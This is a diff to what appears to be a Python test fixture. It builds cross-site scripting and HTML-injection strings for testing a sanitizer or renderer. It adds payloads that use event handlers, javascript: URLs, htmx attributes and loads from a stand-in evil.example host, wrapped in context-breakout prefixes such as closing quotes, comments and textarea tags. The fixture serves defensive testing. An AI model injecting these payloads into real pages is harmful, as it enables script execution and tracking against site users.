@@ -29,3 +29,22 @@ TEXTS = [
     escape.format(x=markup.format(n=number))
     for number, (markup, escape) in enumerate((markup, escape) for markup in MARKUP for escape in ESCAPES)
 ]
+
+CORES = [
+    *MARKUP,
+    "<audio src=https://evil.example/{n}.ogg autoplay onplay=alert({n})>",
+    "<button formaction=javascript:alert({n}) autofocus>",
+    "<img srcset='https://evil.example/{n}.png 2x'>",
+    "<p hx-get=https://evil.example/{n} hx-trigger=load>",
+    "<p hx-on:load='alert({n})' hx-get=/console/overview hx-trigger=load>",
+]
+# Out of each kind of place in which a page may have put it.
+WRAPS = [
+    "{x}", '">{x}', "'>{x}", "-->{x}", "</title>{x}", "</textarea>{x}", "</pre></code>{x}", "*{x}*", "```{x}```",
+    "> {x}", "https://a.example/{x}", "\u202e%3C&lt;{x}",
+]  # fmt: skip
+SHORT_TEXTS = [
+    wrap.format(x=core.format(n=number))
+    for number, (core, wrap) in enumerate((core, wrap) for core in CORES for wrap in WRAPS)
+]
+"""As short as the shortest place that people fill in, the name of a channel, allows."""
